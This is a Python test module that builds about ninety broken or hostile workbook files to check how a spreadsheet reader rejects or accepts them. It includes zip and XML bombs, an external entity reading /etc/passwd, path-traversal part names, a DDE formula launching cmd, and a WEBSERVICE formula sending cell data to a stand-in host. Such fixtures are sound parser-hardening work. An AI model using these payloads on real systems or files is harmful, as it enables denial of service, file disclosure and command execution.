"""Files that no honest program writes, and those that tired people make: sixty-odd kinds, each made anew.

A kind is a function that takes the bytes of a sound workbook and gives those of a bad one.  `CORPUS`
names every kind with the code that the reader must give it (several where which of them comes depends
on the libraries' versions); `None` stands for a file that is accepted.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random

from planbook.problems import Code
from tests.support.packages import find_sheet

GOALS, META = "1_目标总表", "_meta"  # sheets that kinds change; their parts have whatever number
Make = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Kind:
    """One kind of file: how it is made, what it is called, what is found."""

    name: str
    make: Make
    codes: frozenset[Code]
    suffix: str = ".xlsx"

    @property
    def accepted(self) -> bool:
        """Whether its rows are read."""
        return not self.codes


# -- packages --------------------------------------------------------------------------------


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of a package by name, in their order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A package of these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def sheet_part(parts: Mapping[str, bytes], title: str) -> str:
    """The name of the part that a sheet stands in; what is no sheet's title is a part's name already."""
    return find_sheet(parts, title) or title


def with_part(data: bytes, name: str, content: bytes | Callable[[bytes], bytes]) -> bytes:
    """The package with one part replaced, added, or changed by a function."""
    parts = parts_of(data)
    name = sheet_part(parts, name)
    parts[name] = content if isinstance(content, bytes) else content(parts[name])
    return pack(parts)


def without(data: bytes, *names: str) -> bytes:
    """The package without these parts."""
    parts = parts_of(data)
    gone = {sheet_part(parts, name) if name in {GOALS, META} else name for name in names}
    return pack({name: content for name, content in parts.items() if name not in gone})


def set_cell(sheet: bytes, address: str, cell: str) -> bytes:
    """A sheet's XML with one cell written anew, whatever stood there; `cell` is its XML."""
    row = re.search(r"\d+", address)
    assert row is not None
    pattern = re.compile(rf'<c r="{address}"[^>]*?(?:/>|>.*?</c>)'.encode(), re.DOTALL)
    changed, count = pattern.subn(cell.encode().replace(b"\\", b"\\\\"), sheet, count=1)
    if not count:
        changed, count = re.compile(rf'(<row r="{row[0]}"[^>]*>)'.encode()).subn(
            lambda found: found[1] + cell.encode(), sheet, count=1
        )
    assert count == 1, f"no place for {address}"
    return changed


def goals_cell(data: bytes, address: str, cell: str) -> bytes:
    """The workbook with one cell of the goals written anew."""
    return with_part(data, GOALS, lambda sheet: set_cell(sheet, address, cell))


def number(address: str, value: str, more: str = "") -> str:
    """The XML of a number."""
    return f'<c r="{address}"{more}><v>{value}</v></c>'


def text(address: str, value: str) -> str:
    """The XML of a text in place."""
    return f'<c r="{address}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'


def _append_row(sheet: bytes, row: str) -> bytes:
    return sheet.replace(b"</sheetData>", row.encode() + b"</sheetData>")


# -- kinds: what is no workbook ----------------------------------------------------------------


def fixed(content: bytes) -> Make:
    """A file that has nothing of the workbook."""
    return lambda _: content


def ole(*streams: str) -> bytes:
    """A minimal OLE2 file whose directory names these streams, all of them empty."""
    sector = 512
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    table = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    entries = bytearray()
    for name, kind in (("Root Entry", 5), *((stream, 2) for stream in streams)):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entry = bytearray(128)
        entry[: len(raw)] = raw
        struct.pack_into("<HBB", entry, 64, len(raw), kind, 1)
        struct.pack_into("<II", entry, 116, 0xFFFFFFFE, 0)
        entries += entry
    directory = bytes(entries).ljust(sector, b"\x00")[:sector]
    struct.pack_into("<I", header, 48, 1)
    return bytes(header) + table + directory


# -- kinds: packages that lie ------------------------------------------------------------------


def bomb(data: bytes) -> bytes:
    """A picture that is fifty megabytes of nothing."""
    return with_part(data, "xl/media/image1.png", bytes(50 * 2**20))


def sheet_bomb(data: bytes) -> bytes:
    """A sheet that inflates a thousandfold."""
    return with_part(
        data, "xl/worksheets/sheet99.xml", b"<worksheet>" + b" " * (60 * 2**20) + b"</worksheet>"
    )


def lying_size(claim: int) -> Make:
    """The directory claims another size than the part has."""

    def make(data: bytes) -> bytes:
        name = sheet_part(parts_of(data), GOALS)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            entry = archive.getinfo(name)
            start = archive.start_dir
        changed = bytearray(data)
        at = changed.find(name.encode(), start) - 46
        struct.pack_into("<I", changed, at + 24, claim)
        struct.pack_into("<I", changed, entry.header_offset + 22, claim)
        return bytes(changed)

    return make


def doubled(data: bytes) -> bytes:
    """Two parts of one name: which one is read is a matter of taste."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        parts = parts_of(data)
        name = sheet_part(parts, GOALS)
        archive.writestr(name.replace("worksheets", "Worksheets"), parts[name])
    return buffer.getvalue()


def overlapping(data: bytes) -> bytes:
    """Two names in the directory share the bytes of one part."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start = archive.start_dir
        offset = archive.getinfo(sheet_part(parts_of(data), META)).header_offset
    changed = bytearray(data)
    at = changed.find(b"docProps/app.xml", start) - 46
    struct.pack_into("<I", changed, at + 42, offset + 4)
    return bytes(changed)


def damaged(data: bytes) -> bytes:
    """A byte of a compressed sheet was changed on the way."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset = archive.getinfo(sheet_part(parts_of(data), GOALS)).header_offset
    changed = bytearray(data)
    for step in range(200, 240):
        changed[offset + step] ^= 0xFF
    return bytes(changed)


def flag_encrypted(data: bytes) -> bytes:
    """A zip with a password, as archivers make it."""
    name = sheet_part(parts_of(data), GOALS)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset, start = archive.getinfo(name).header_offset, archive.start_dir
    changed = bytearray(data)
    changed[offset + 6] |= 1
    changed[changed.find(name.encode(), start) - 46 + 8] |= 1
    return bytes(changed)


def odd_method(data: bytes) -> bytes:
    """Parts compressed in a way that no spreadsheet reads."""
    return pack(parts_of(data), zipfile.ZIP_LZMA)


def many_parts(data: bytes) -> bytes:
    """Thousands of empty parts."""
    return pack({**parts_of(data), **{f"xl/media/{n}.bin": b"" for n in range(3100)}})


# -- kinds: sheets that lie --------------------------------------------------------------------


def dense(data: bytes) -> bytes:
    """Over a million and a half cells in one sheet."""
    many = b"<row>" + b'<c r="A1"><v>1</v></c>' * 1_600_000 + b"</row>"
    return with_part(data, GOALS, lambda sheet: sheet.replace(b"</sheetData>", many + b"</sheetData>"))


def deep_json(data: bytes) -> bytes:
    """A manifest of brackets: no parser comes back from it, so the headers must serve."""
    nested = "[" * 15_000
    strings = re.compile(rb'(<c r="B7"[^>]*?)(?:/>|>.*?</c>)', re.DOTALL)
    return with_part(data, META, lambda sheet: strings.sub(text("B7", nested).encode(), sheet, count=1))


def deep_xml(data: bytes) -> bytes:
    """Elements within elements without end."""
    return with_part(
        data, "xl/styles.xml", b"<styleSheet>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</styleSheet>"
    )


def entities(data: bytes) -> bytes:
    """The billion laughs."""
    lines = b"".join(b'<!ENTITY l%d "&l%d;&l%d;&l%d;">' % (n, n - 1, n - 1, n - 1) for n in range(1, 30))
    return with_part(
        data, "xl/sharedStrings.xml", b'<!DOCTYPE x [<!ENTITY l0 "ha">' + lines + b"]><sst>&l29;</sst>"
    )


def external_entity(data: bytes) -> bytes:
    """A part that asks for a file of this machine."""
    return with_part(
        data,
        "docProps/app.xml",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Properties>&e;</Properties>',
    )


def empty_rows(data: bytes) -> bytes:
    """Three hundred thousand formatted rows with nothing in them: a planner pressed Ctrl+Shift+Down."""
    rows = b"".join(
        b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/></row>' % (n, n) for n in range(200, 300_200)
    )
    return with_part(data, GOALS, lambda sheet: sheet.replace(b"</sheetData>", rows + b"</sheetData>"))


def lying_dimension(data: bytes) -> bytes:
    """A sheet that claims to be as large as a sheet can be."""
    return with_part(
        data,
        GOALS,
        lambda sheet: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', sheet),
    )


def injected(formula: str) -> Make:
    """A formula in place of a goal's name, which is the value stored for it."""
    safe = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return lambda data: goals_cell(data, "C7", f'<c r="C7" t="str"><f>{safe}</f><v>营收增长</v></c>')


def relation(target: str) -> Make:
    """The goals' sheet is said to be somewhere else."""

    def make(data: bytes) -> bytes:
        old = sheet_part(parts_of(data), GOALS).removeprefix("xl/").encode()
        return with_part(data, "xl/_rels/workbook.xml.rels", lambda rels: rels.replace(old, target.encode()))

    return make


def workbook(old: bytes, new: bytes) -> Make:
    """The list of sheets and names, changed."""
    return lambda data: with_part(data, "xl/workbook.xml", lambda part: part.replace(old, new, 1))


def as_utf16(data: bytes) -> bytes:
    """A sheet in UTF-16, which the standard allows and nobody writes."""
    return with_part(
        data,
        GOALS,
        lambda sheet: sheet.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
    )


def macros(data: bytes) -> bytes:
    """The same workbook with a macro project."""
    plain = b"spreadsheetml.sheet.main+xml"
    changed = with_part(
        data,
        "[Content_Types].xml",
        lambda part: part.replace(
            b"application/vnd.openxmlformats-officedocument." + plain,
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
    )
    return with_part(changed, "xl/vbaProject.bin", ole("VBA"))


def prefixed(data: bytes) -> bytes:
    """Every element of the sheet with a prefix, single quotes around attributes."""

    def change(sheet: bytes) -> bytes:
        named = re.sub(rb"<(/?)(\w)", rb"<\1x:\2", sheet)
        return named.replace(b'xmlns="', b'xmlns:x="').replace(b"<x:?xml", b"<?xml")

    return with_part(data, GOALS, change)


BOXES, COMMENTS, LINKS = "vmlDrawing", "comments", "rels"  # what a comment on the goals' sheet stands in
_XML = b'<?xml version="1.0" encoding="UTF-8"?>'
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_GOOD_COMMENTS = (
    _XML
    + b"<comments "
    + _MAIN
    + b'><authors><author>planbook</author></authors><commentList><comment ref="C7" '
    + 'authorId="0"><text><t>◆ 错误　old</t></text></comment></commentList></comments>'.encode()
)
_GOOD_BOXES = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="_x0000_s1025"></v:shape></xml>'
_GOOD_LINKS = (
    _XML
    + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    b'Id="rId1" Type="' + _OFFICE + b'/comments" Target="../comments77.xml"/><Relationship Id="rId2" '
    b'Type="' + _OFFICE + b'/vmlDrawing" Target="../drawings/vmlDrawing77.vml"/></Relationships>'
)


def commented(**odd: bytes) -> Make:
    """A comment of an earlier copy on the goals, one of its parts odd."""

    def make(data: bytes) -> bytes:
        sheet = sheet_part(parts_of(data), GOALS)
        data = with_part(
            data, f"xl/worksheets/_rels/{sheet.rpartition('/')[2]}.rels", odd.get(LINKS, _GOOD_LINKS)
        )
        data = with_part(data, "xl/comments77.xml", odd.get(COMMENTS, _GOOD_COMMENTS))
        data = with_part(data, "xl/drawings/vmlDrawing77.vml", odd.get(BOXES, _GOOD_BOXES))
        data = with_part(data, sheet, lambda part: re.sub(rb"<(?:legacyDrawing|drawing) [^>]*>", b"", part))
        link = b'<legacyDrawing xmlns:q="' + _OFFICE + b'" q:id="rId2"/>'
        at = rb"(?=<legacyDrawingHF|<picture|<oleObjects|<controls|<tableParts|<extLst|</worksheet>)"
        return with_part(data, sheet, lambda part: re.sub(at, link, part, count=1))

    return make


def broken(*codes: Code) -> frozenset[Code]:
    """Any of these."""
    return frozenset(codes)


_NO = broken(Code.NOT_A_WORKBOOK)
_UNSAFE = broken(Code.UNSAFE_PACKAGE)
_BROKEN = broken(Code.BROKEN_PACKAGE)
_FAR = broken(Code.FAR_CELL)
_FINE: frozenset[Code] = frozenset()
_DTD = b'<?xml version="1.0"?><!DOCTYPE x><x/>'

# The tables of these are read; what stands beside them can be neither searched nor patched.
DAMAGED: Mapping[str, Make] = {
    "comments-cut": commented(comments=_GOOD_COMMENTS[:-40]),
    "comments-empty": commented(comments=_XML),
    "comments-no-authors": commented(comments=re.sub(b"<authors>.*</authors>", b"", _GOOD_COMMENTS)),
    "comments-no-list": commented(comments=re.sub(b"<commentList>.*</commentList>", b"", _GOOD_COMMENTS)),
    "comments-not-utf8": commented(comments=_GOOD_COMMENTS.replace(b"old", b"\xff\xfe\xfd")),
    "comments-of-tags": commented(comments=_XML + b"<!--" * 100_000),
    "boxes-not-utf8": commented(vmlDrawing=_GOOD_BOXES.replace(b"</v", b"\xff</v")),
    "boxes-without-end": commented(vmlDrawing=_GOOD_BOXES.replace(b"</xml>", b"")),
    "boxes-of-openings": commented(vmlDrawing=b"<xml>" + b"<v:shape " * 100_000),
    "links-cut": commented(rels=_GOOD_LINKS[:-30]),
    "links-not-utf8": commented(rels=_GOOD_LINKS.replace(b"rId2", b"\xff")),
}

CORPUS: tuple[Kind, ...] = (
    # what is no workbook
    Kind("empty", fixed(b""), _NO),
    Kind("zeros", fixed(bytes(4096)), _NO),
    Kind("blank-text", fixed(b"\xef\xbb\xbf\r\n\r\n"), _NO),
    Kind("csv", fixed("部门,目标\n销售部,增长\n".encode()), _NO),
    Kind("csv-gb18030", fixed("部门,目标\n销售部,增长\n".encode("gb18030")), _NO),
    Kind("csv-utf16", fixed("部门\t目标\n销售部\t增长\n".encode("utf-16")), _NO),
    Kind("html-table", fixed(b"<html><body><table><tr><td>1</td></tr></table></body></html>"), _NO, ".xls"),
    Kind("mhtml", fixed(b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"), _NO, ".xls"),
    Kind("xml-2003", fixed(b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'), _NO),
    Kind("json", fixed(b'{"goals": []}'), _NO),
    Kind("pdf", fixed(b"%PDF-1.7\n"), _NO),
    Kind("png", fixed(b"\x89PNG\r\n\x1a\n" + bytes(64)), _NO),
    Kind("jpeg", fixed(b"\xff\xd8\xff\xe0" + bytes(64)), _NO),
    Kind("heic-photo", fixed(b"\x00\x00\x00\x18ftypheic" + bytes(64)), _NO),
    Kind("rar", fixed(b"Rar!\x1a\x07\x00"), _NO),
    Kind("gzip", lambda data: b"\x1f\x8b\x08\x00" + zlib.compress(data[:100]), _NO),
    Kind("executable", fixed(b"MZ\x90\x00" + bytes(64)), _NO),
    Kind("sqlite", fixed(b"SQLite format 3\x00" + bytes(64)), _NO),
    Kind("noise", fixed(Random(7).randbytes(4096)), _NO),
    Kind("doc", fixed(ole("WordDocument")), _NO, ".xls"),
    Kind("ppt", fixed(ole("PowerPoint Document")), _NO, ".xls"),
    Kind("encrypted", fixed(ole("EncryptionInfo", "EncryptedPackage")), broken(Code.ENCRYPTED)),
    Kind("xls-of-nothing", fixed(ole("Workbook")), broken(Code.READ_FAILED, Code.FOREIGN_WORKBOOK, Code.BROKEN_PACKAGE), ".xls"),
    Kind("excel-4", fixed(b"\x09\x04\x06\x00\x00\x00\x10\x00"), _NO, ".xls"),
    Kind("docx", fixed(pack({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})), _NO),
    Kind("pptx", fixed(pack({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})), _NO),
    Kind("xlsb", fixed(pack({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01"})), _NO),
    Kind("odt", fixed(pack({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"})), _NO),
    Kind("zip-of-workbooks", lambda data: pack({"营销中心.xlsx": data}), _NO),
    Kind("empty-zip", fixed(b"PK\x05\x06" + bytes(18)), _NO),
    # packages that are damaged or lie
    Kind("cut-short", lambda data: data[: len(data) // 2], _BROKEN),
    Kind("head-only", fixed(b"PK\x03\x04 broken"), _BROKEN),
    Kind("bits-flipped", damaged, _BROKEN),
    Kind("size-too-small", lying_size(1000), broken(Code.BROKEN_PACKAGE, Code.UNSAFE_PACKAGE)),
    Kind("size-too-large", lying_size(2**31), broken(Code.BROKEN_PACKAGE, Code.UNSAFE_PACKAGE)),
    Kind("bomb-picture", bomb, _UNSAFE),
    Kind("bomb-sheet", sheet_bomb, _UNSAFE),
    Kind("thousands-of-parts", many_parts, _UNSAFE),
    Kind("twice-by-case", doubled, _UNSAFE),
    Kind("overlapping-parts", overlapping, broken(Code.BROKEN_PACKAGE, Code.UNSAFE_PACKAGE)),
    Kind("traversal", lambda data: with_part(data, "../../etc/cron.d/x", b"x"), _UNSAFE),
    Kind("absolute-name", lambda data: with_part(data, "/etc/passwd", b"x"), _UNSAFE),
    Kind("drive-name", lambda data: with_part(data, "C:/boot.ini", b"x"), _UNSAFE),
    Kind("control-name", lambda data: with_part(data, "xl/a\x1b[2J.xml", b"<a/>"), _UNSAFE),
    Kind("zip-password", flag_encrypted, broken(Code.ENCRYPTED)),
    Kind("odd-compression", odd_method, _BROKEN),
    Kind("no-content-types", lambda data: without(data, "[Content_Types].xml"), _BROKEN),
    Kind("no-workbook-part", lambda data: without(data, "xl/workbook.xml"), _BROKEN),
    Kind("no-relations", lambda data: without(data, "xl/_rels/workbook.xml.rels"), _BROKEN),
    Kind("no-goals-part", lambda data: without(data, GOALS), _BROKEN),
    Kind("sheet-elsewhere", relation("../../../etc/passwd"), _BROKEN),
    Kind("sheet-is-styles", relation("styles.xml"), broken(Code.HEADER_MISSING)),
    Kind("two-of-one-title", workbook('name="2_目标分解"'.encode(), 'name="1_目标总表"'.encode()), _BROKEN),
    # XML that lies
    Kind("dtd", lambda data: with_part(data, "docProps/app.xml", _DTD), _UNSAFE),
    Kind("dtd-utf16", lambda data: with_part(data, "docProps/app.xml", "<!DOCTYPE x><x/>".encode("utf-16")), _UNSAFE),
    Kind("billion-laughs", entities, _UNSAFE),
    Kind("external-entity", external_entity, _UNSAFE),
    Kind("ebcdic", lambda data: with_part(data, "docProps/app.xml", "<?xml version='1.0'?>".encode("cp037")), _BROKEN),
    Kind("odd-encoding", lambda data: with_part(data, "docProps/app.xml", b"<?xml version='1.0' encoding='utf-7'?><a/>"), _UNSAFE),
    Kind("styles-cut", lambda data: with_part(data, "xl/styles.xml", lambda part: part[:-200]), _BROKEN),
    Kind("sheet-cut", lambda data: with_part(data, GOALS, lambda part: part[: len(part) // 2]), broken(Code.BROKEN_PACKAGE, Code.READ_FAILED)),
    Kind("strings-cut", lambda data: with_part(data, "xl/sharedStrings.xml", lambda part: part[: len(part) // 2]), broken(Code.BROKEN_PACKAGE, Code.READ_FAILED)),
    Kind("no-such-string", lambda data: goals_cell(data, "C7", '<c r="C7" t="s"><v>999999</v></c>'), broken(Code.READ_FAILED)),
    Kind("string-minus-one", lambda data: goals_cell(data, "C7", '<c r="C7" t="s"><v>-1</v></c>'), _BROKEN),
    Kind("cell-twice", lambda data: goals_cell(data, "C7", number("C7", "1") + number("C7", "2")), _BROKEN),
    Kind("two-values", lambda data: goals_cell(data, "I7", '<c r="I7"><v>1</v><v>2</v></c>'), _BROKEN),
    Kind("far-corner", lambda data: with_part(data, GOALS, lambda s: _append_row(s, f'<row r="1048576">{number("XFD1048576", "1")}</row>')), _FAR),
    Kind("far-below", lambda data: with_part(data, GOALS, lambda s: _append_row(s, f'<row r="1048576">{number("AA1048576", "1")}</row>')), _FAR),
    Kind("beyond-the-sheet", lambda data: with_part(data, GOALS, lambda s: _append_row(s, f'<row r="9999999">{number("A9999999", "1")}</row>')), _UNSAFE),
    Kind("beyond-the-columns", lambda data: goals_cell(data, "C7", number("ZZZ7", "1")), _UNSAFE),
    Kind("too-many-cells", dense, _UNSAFE),
    # workbooks of somebody else, or no longer of anybody
    Kind("foreign", fixed(pack({
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b'<workbook xmlns:r="r"><sheets><sheet name="S" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<R><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></R>',
        "xl/worksheets/sheet1.xml": b"<worksheet><sheetData/></worksheet>",
    })), broken(Code.FOREIGN_WORKBOOK, Code.READ_FAILED)),
    Kind("manifest-of-brackets", deep_json, broken(Code.FOREIGN_WORKBOOK, Code.IDENTITY_MISSING, Code.IDENTITY_CONFLICT)),
    # rows that lie, in workbooks that are read
    Kind("not-a-number", lambda data: goals_cell(data, "I7", number("I7", "NaN")), broken(Code.NOT_A_QUANTITY)),
    Kind("infinite", lambda data: goals_cell(data, "I7", number("I7", "1e999")), broken(Code.NOT_A_QUANTITY)),
    Kind("error-value", lambda data: goals_cell(data, "I7", '<c r="I7" t="e"><v>#DIV/0!</v></c>'), broken(Code.ERROR_CELL)),
    Kind("new-error-value", lambda data: goals_cell(data, "I7", '<c r="I7" t="e"><v>#SPILL!</v></c>'), broken(Code.ERROR_CELL)),
    Kind("formula-unstored", lambda data: goals_cell(data, "I7", '<c r="I7"><f>1+1</f></c>'), broken(Code.FORMULA_WITHOUT_VALUE)),
    # and workbooks that are read whole
    Kind("sound", lambda data: data, _FINE),
    Kind("deep-xml", deep_xml, _FINE),
    Kind("with-macros", macros, _FINE, ".xlsm"),
    Kind("formula-dde", injected('cmd|"/c calc"!A1'), _FINE),
    Kind("formula-webservice", injected('WEBSERVICE("http://example.invalid/"&A1)'), _FINE),
    Kind("lying-dimension", lying_dimension, _FINE),
    Kind("rows-of-nothing", empty_rows, _FINE),
    Kind("sheet-utf16", as_utf16, _FINE),
    Kind("sheet-prefixed", prefixed, _FINE),
    Kind("wrong-suffix", lambda data: data, _FINE, ".txt"),
    *(Kind(name, make, _FINE) for name, make in DAMAGED.items()),
    Kind("comments-sound", commented(), _FINE),
    Kind("boxes-end-with-a-space", commented(vmlDrawing=_GOOD_BOXES.replace(b"</xml>", b"</xml >")), _FINE),
    Kind("thirty-two-thousand", lambda data: goals_cell(data, "P7", text("P7", "字" * 32_767)), _FINE),
    Kind("bidi", lambda data: goals_cell(data, "P7", text("P7", "abc\u202exslx.\u200b\ufeff")), _FINE),
)  # fmt: skip
